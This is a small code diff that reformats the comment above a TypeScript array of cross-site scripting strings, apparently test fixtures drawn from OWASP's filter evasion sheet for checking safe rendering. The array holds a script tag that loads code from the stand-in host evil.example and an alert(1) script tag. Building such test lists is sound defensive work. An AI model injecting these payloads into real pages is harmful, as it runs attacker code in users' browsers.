@@ -1,4 +1,6 @@
-/** Texts that run a script where they are shown carelessly: OWASP's filter evasion sheet, and parsers' differences (R17). */
+/**
+ * Texts that run a script if rendered carelessly: OWASP's filter evasion sheet, and parser differences (R17).
+ */
 export const hostileTexts: readonly string[] = [
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script>alert(1)</script>',
